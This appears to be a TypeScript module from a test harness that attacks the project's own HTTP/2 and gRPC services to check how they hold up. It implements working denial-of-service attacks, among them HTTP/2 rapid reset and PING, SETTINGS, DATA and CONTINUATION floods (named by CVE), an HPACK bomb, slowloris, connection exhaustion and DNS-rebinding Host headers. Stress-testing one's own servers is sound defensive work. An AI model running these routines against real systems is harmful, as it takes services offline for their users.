import { once } from 'node:events'
import { errorCode, frameFlag, frameType } from '@marquee/http/http2/frames/wire'
import { settingId, settingsPayload } from '../../../packages/http/http2/frames/settings.ts'
import {
  type FramesPeer,
  toFrame,
  uint32,
} from '../../../packages/http/http2/testing/frames-peer.ts'
import { flood, isOpen, pause } from '../flood.ts'
import type { Attack, Endpoint, Target } from './attack.ts'
import { collect, envelope, grpcHeaders, integer, send } from './grpc.ts'

const { headers, data, ping, settings, resetStream, continuation, goaway } = frameType
const { endHeaders, endStream } = frameFlag
const noBytes = Buffer.alloc(0)
const listMovies = '/movie.v1.MovieService/ListMovies'

/** Attacks by frames, headers and connections, before any message is read. */
export const transportAttacks: readonly Attack[] = [
  { name: 'nothing, to compare with', run: ({ signal }) => once(signal, 'abort').then(() => {}) },
  { name: 'rapid reset (CVE-2023-44487)', run: rapidReset },
  floodOf('a flood of PING (CVE-2019-9512)', toFrame(ping, 0, 0, Buffer.alloc(8))),
  floodOf('a flood of SETTINGS (CVE-2019-9515)', toFrame(settings, 0, 0, noBytes)),
  floodOf('a flood of empty DATA (CVE-2019-9518)', toFrame(data, 0, 1, noBytes), true),
  floodOf(
    'a flood of CONTINUATION (CVE-2024-27316)',
    Buffer.concat([
      toFrame(headers, 0, 3, noBytes),
      ...Array.from({ length: 64 }, () => toFrame(continuation, 0, 3, Buffer.alloc(1024, 0x40))),
    ]),
  ),
  { name: 'field blocks that expand a thousandfold (HPACK bomb)', run: hpackBomb },
  { name: '256 responses for a client that never reads', run: neverRead },
  { name: '500 heads that never end (slowloris)', run: slowHeads },
  { name: '5,000 connections that say nothing', run: sayNothing },
  { name: 'pipelined requests whose responses nobody reads', run: pipeline },
  { name: 'requests for another host (DNS rebinding)', run: otherHost },
  { name: 'four times more calls than the service can handle', run: overload },
]

function floodOf(name: string, frame: Buffer, onStream = false): Attack {
  return {
    name,
    async run({ metadata, signal, saw }) {
      while (!signal.aborted) {
        const peer = await metadata.peer()
        if (onStream) peer.request(1, grpcHeaders('/grpc.health.v1.Health/Check'), false)
        await flood(peer.socket, frame, Math.ceil(4_000_000 / frame.length))
        saw(await endOf(peer))
      }
    },
  }
}

async function rapidReset({ metadata, signal, saw }: Target): Promise<void> {
  const cancel = uint32(errorCode.cancel)
  while (!signal.aborted) {
    const peer = await metadata.peer()
    const block = peer.encode(grpcHeaders('/metadata.v1.MetadataService/ListMetadata'))
    for (let streamId = 1; streamId < 40_000 && isOpen(peer.socket); streamId += 2) {
      const pair = [toFrame(headers, endHeaders | endStream, streamId, block)]
      pair.push(toFrame(resetStream, 0, streamId, cancel))
      peer.socket.write(Buffer.concat(pair))
      if (streamId % 200 === 199) await pause(1)
    }
    saw(await endOf(peer))
  }
}

/** Returns whether the service soon closes the connection. */
async function endOf(peer: FramesPeer): Promise<'closed' | 'taken'> {
  const hasEnded = () => peer.closed || peer.frames.some(({ type }) => type === goaway)
  for (let waits = 0; waits < 50 && !hasEnded(); waits++) await pause(20)
  const end = hasEnded() ? 'closed' : 'taken'
  peer.socket.destroy()
  return end
}

/** Puts one long header into the table, then refers to it with one byte each time. */
async function hpackBomb({ metadata, signal, saw }: Target): Promise<void> {
  while (!signal.aborted) {
    const peer = await metadata.peer()
    const long = peer.encode([...grpcHeaders('/'), 'x-long', 'x'.repeat(3_900)])
    peer.send(headers, endHeaders | endStream, 1, long)
    for (let streamId = 3; streamId < 2_003 && isOpen(peer.socket); streamId += 2) {
      const block = Buffer.alloc(16_000, 0xbe)
      peer.send(headers, endHeaders | endStream, streamId, block)
      if (streamId % 100 === 1) await pause(1)
    }
    saw(await endOf(peer))
  }
}

async function neverRead(target: Target): Promise<void> {
  const { movie, signal, saw } = target
  const open = settingsPayload([[settingId.initialWindowSize, 2 ** 31 - 1]])
  while (!signal.aborted) {
    const peer = await movie.peer(open)
    peer.socket.pause()
    for (let streamId = 1; streamId < 512; streamId += 2) {
      send(peer, {
        streamId,
        headers: grpcHeaders(listMovies),
        body: envelope(integer(4, 100)),
      })
    }
    await pause(500)
    saw('unread')
  }
}

async function slowHeads({ movie, signal, saw }: Target): Promise<void> {
  const sockets = Array.from({ length: 500 }, () => movie.dial().resume())
  for (const socket of sockets) {
    socket.write('GET / HTTP/1.1\r\nhost: localhost\r\nx: ')
    socket.once('close', () => saw('closed'))
  }
  while (!signal.aborted) {
    for (const socket of sockets) if (isOpen(socket)) socket.write('x')
    await pause(250)
  }
}

async function sayNothing({ movie, signal, saw }: Target): Promise<void> {
  for (let count = 0; count < 5_000 && !signal.aborted; count++) {
    const socket = movie.dial().resume()
    socket.once('close', () => saw('closed'))
    if (count % 100 === 99) await pause(10)
  }
  if (!signal.aborted) await once(signal, 'abort')
}

async function pipeline({ movie, signal, saw }: Target): Promise<void> {
  const request = Buffer.from('GET /movie?id=the-matrix-1999 HTTP/1.1\r\nhost: localhost\r\n\r\n')
  while (!signal.aborted) {
    const socket = movie.dial().pause()
    saw((await flood(socket, request, 20_000)) < 20_000 ? 'closed' : 'taken')
    await pause(50)
    socket.destroy()
  }
}

async function otherHost({ rating, signal, saw }: Target): Promise<void> {
  while (!signal.aborted) {
    const socket = rating.dial()
    socket.write(
      'PUT /rating?id=1&type=movie&userId=me&value=5 HTTP/1.1\r\n' +
        'host: rebinding.example:8082\r\nconnection: close\r\n\r\n',
    )
    const [head] = await Promise.race([once(socket, 'data'), once(signal, 'abort')])
    const status = /^HTTP\/1\.1 (\d+)/.exec(String(head))?.[1]
    if (status !== undefined) saw(Number(status))
    socket.destroy()
    await pause(5)
  }
}

async function overload(target: Target): Promise<void> {
  const one = async (endpoint: Endpoint) => {
    while (!target.signal.aborted) {
      const peer = await endpoint.peer()
      const streamIds = Array.from({ length: 64 }, (_, index) => 1 + 2 * index)
      for (const streamId of streamIds) {
        send(peer, {
          streamId,
          headers: grpcHeaders(listMovies),
          body: envelope(integer(4, 50)),
        })
      }
      await collect(peer, streamIds, target)
      peer.socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: 8 }, () => one(target.movie)))
}
